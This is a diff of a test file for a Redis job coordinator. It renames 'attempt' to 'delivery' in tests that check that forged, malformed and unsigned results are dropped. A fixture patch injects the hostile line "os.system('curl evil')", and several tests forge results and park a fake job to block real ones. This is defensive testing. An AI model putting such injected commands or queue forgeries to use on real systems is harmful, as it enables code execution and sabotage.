@@ -28,7 +28,7 @@ import { buildFixtureInstances, type FixtureInstances, stepwiseReply } from "../
 /**
  * Someone who can write to Redis sends a coordinator results of their own: a well-formed one for an
  * instance it waits for (a patch of theirs in preds.json), a malformed one (it stopped the run), and
- * junk. The coordinator checks each against the jobs it sent and the attempts workers started; what
+ * junk. The coordinator checks each against the jobs it sent and the deliveries workers started; what
  * fails is logged and dropped, and the workers' real results are recorded. With a shared secret
  * (run.queue.secret_env) a result must also carry the worker's signature, and a worker runs only
  * jobs the coordinator signed.
@@ -38,11 +38,11 @@ const readJson = <T>(path: string): T => JSON.parse(readFileSync(path, "utf8")) 
 const FORGED_PATCH = "diff --git a/pkg0/op1.py b/pkg0/op1.py\n+import os; os.system('curl evil')\n";
 const SECRET = "queue-SECRET-2b7e151628aed2a6abf7158809cf4f3c";
 
-/** A result as a worker sends it, for `id`, claiming `attempt`. */
+/** A result as a worker sends it, for `id`, claiming `delivery`. */
 function forgedResult(
   run: string,
   id: string,
-  attempt: string,
+  delivery: string,
   change: (r: Record<string, unknown>) => void = () => {},
 ) {
   const now = new Date().toISOString();
@@ -62,7 +62,7 @@ function forgedResult(
     seconds: 1,
     patch: FORGED_PATCH,
     worker: "evil:1:x",
-    attempt,
+    delivery,
   };
   change(outcome);
   return {
@@ -186,8 +186,8 @@ describe.skipIf(!REDIS_SERVER)("forged and malformed results against a coordinat
       return states.every((s) => s === "waiting");
     });
     await instances.close();
-    const attemptA = `${instanceJobId(run, a)}.0123456789ab`;
-    await sendResult(run, "forged-1", forgedResult(run, a, attemptA));
+    const deliveryA = `${instanceJobId(run, a)}.0123456789ab`;
+    await sendResult(run, "forged-1", forgedResult(run, a, deliveryA));
     await sendResult(
       run,
       "forged-2",
@@ -209,7 +209,7 @@ describe.skipIf(!REDIS_SERVER)("forged and malformed results against a coordinat
     for (const row of f.rows) expect(runs.instances[row.instance_id].worker).not.toBe("evil:1:x");
     const log = readFileSync(join(out, "run.log"), "utf8");
     expect(log).toContain(
-      `${a}: a result of attempt ${attemptA} was dropped: no worker started that attempt of its job`,
+      `${a}: a result of delivery ${deliveryA} was dropped: no worker started that delivery of its job`,
     );
     expect(log).toContain(
       'queue: a result was dropped (result job "forged-2"): it is not a result of this patchloop ' +
@@ -229,7 +229,7 @@ describe.skipIf(!REDIS_SERVER)("forged and malformed results against a coordinat
     redis.cli("DEL", WORKERS_KEY, WORKER_INFO_KEY);
   }, 180_000);
 
-  it("with run.queue.secret_env: a forged result of a started attempt is dropped, and an unsigned job is refused", async () => {
+  it("with run.queue.secret_env: a forged result of a started delivery is dropped, and an unsigned job is refused", async () => {
     const env = { ...process.env, PLTEST_QUEUE_SECRET: SECRET };
     const signed = ["-c", "run.queue.secret_env=PLTEST_QUEUE_SECRET"];
     const out = join(root, "signed");
@@ -244,16 +244,16 @@ describe.skipIf(!REDIS_SERVER)("forged and malformed results against a coordinat
     expect(environ.split("\0")).toContain(`PLTEST_QUEUE_SECRET=${"*".repeat(SECRET.length)}`);
     const a = f.rows[0].instance_id;
     const jobA = instanceJobId(run, a);
-    // The attempt a worker started is in Redis (the job's log): a forger can name it.
+    // The delivery a worker started is in Redis (the job's log): a forger can name it.
     const instances = queueOn(redis, INSTANCE_QUEUE);
-    let attempt = "";
+    let delivery = "";
     await until("a worker started the first instance", async () => {
       const { logs } = await instances.getJobLogs(jobA);
-      attempt = logs.map((l) => /^start (\S+)/.exec(l)?.[1]).find((x) => x !== undefined) ?? "";
-      return attempt !== "";
+      delivery = logs.map((l) => /^start (\S+)/.exec(l)?.[1]).find((x) => x !== undefined) ?? "";
+      return delivery !== "";
     });
     await instances.close();
-    await sendResult(run, "forged-signed", { ...forgedResult(run, a, attempt), sig: "0".repeat(64) });
+    await sendResult(run, "forged-signed", { ...forgedResult(run, a, delivery), sig: "0".repeat(64) });
     // A job of the forger's own, unsigned, on the same queue.
     const crafted = await addInstanceJob(redis, {
       run: "crafted-run",
@@ -285,9 +285,9 @@ describe.skipIf(!REDIS_SERVER)("forged and malformed results against a coordinat
     expect(stored).toContain("PLTEST_QUEUE_SECRET");
     expect(stored).not.toContain(SECRET);
   }, 180_000);
-  it("with run.queue.secret_env: a forged result parked under a started attempt's id does not block the real one", async () => {
+  it("with run.queue.secret_env: a forged result parked under a started delivery's id does not block the real one", async () => {
     // Issue 41, finding 8: BullMQ adds nothing under a taken job id, so a forged result sent first
-    // under the attempt's id (delayed, so that it never runs) stood in for the worker's real one,
+    // under the delivery's id (delayed, so that it never runs) stood in for the worker's real one,
     // which was never sent again: the run waited forever, and a resume too.
     const env = { ...process.env, PLTEST_QUEUE_SECRET: SECRET };
     const signed = ["-c", "run.queue.secret_env=PLTEST_QUEUE_SECRET"];
@@ -299,15 +299,15 @@ describe.skipIf(!REDIS_SERVER)("forged and malformed results against a coordinat
     const results = queueOn(redis, resultsQueueName(run));
     const parked: string[] = [];
     for (const row of f.rows) {
-      let attempt = "";
+      let delivery = "";
       await until(`a worker started ${row.instance_id}`, async () => {
         const { logs } = await instances.getJobLogs(instanceJobId(run, row.instance_id));
-        attempt = logs.map((l) => /^start (\S+)/.exec(l)?.[1]).find((x) => x !== undefined) ?? "";
-        return attempt !== "";
+        delivery = logs.map((l) => /^start (\S+)/.exec(l)?.[1]).find((x) => x !== undefined) ?? "";
+        return delivery !== "";
       });
-      const forged = { ...forgedResult(run, row.instance_id, attempt), sig: "0".repeat(64) };
-      await results.add("result", forged, { jobId: attempt, attempts: 1, delay: 1e9 });
-      parked.push(attempt);
+      const forged = { ...forgedResult(run, row.instance_id, delivery), sig: "0".repeat(64) };
+      await results.add("result", forged, { jobId: delivery, attempts: 1, delay: 1e9 });
+      parked.push(delivery);
     }
     await instances.close();
     expect((await boss.done).code).toBe(0);
